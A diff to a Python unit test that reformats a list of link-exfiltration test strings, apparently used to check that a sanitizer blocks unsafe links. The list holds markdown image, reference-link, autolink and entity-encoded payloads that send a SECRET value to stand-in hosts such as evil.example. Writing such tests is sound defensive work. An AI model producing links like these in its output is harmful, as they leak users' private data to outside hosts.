@@ -16,9 +16,15 @@ from tests.unit.test_links import unsafe
 pytestmark = pytest.mark.anyio
 
 EVIL = [
-    "![x](//host/?q=SECRET)", "[x](https&#58;//evil.example/?q=SECRET)", "<img src=//evil.example/?q=SECRET>", "[a][r]\n\n[r]: //evil.example/S",
-    "https://evil.example/?q=SECRET", "<https://evil.example/?q=SECRET>", "[x](https://common.example/page?q=SECRET)", "www.evil.example/SECRET",
-]  # fmt: skip
+    "![x](//host/?q=SECRET)",
+    "[x](https&#58;//evil.example/?q=SECRET)",
+    "<img src=//evil.example/?q=SECRET>",
+    "[a][r]\n\n[r]: //evil.example/S",
+    "https://evil.example/?q=SECRET",
+    "<https://evil.example/?q=SECRET>",
+    "[x](https://common.example/page?q=SECRET)",
+    "www.evil.example/SECRET",
+]
 TEXT = "\n\n".join(EVIL)
 READ = "https://common.example/page"
 
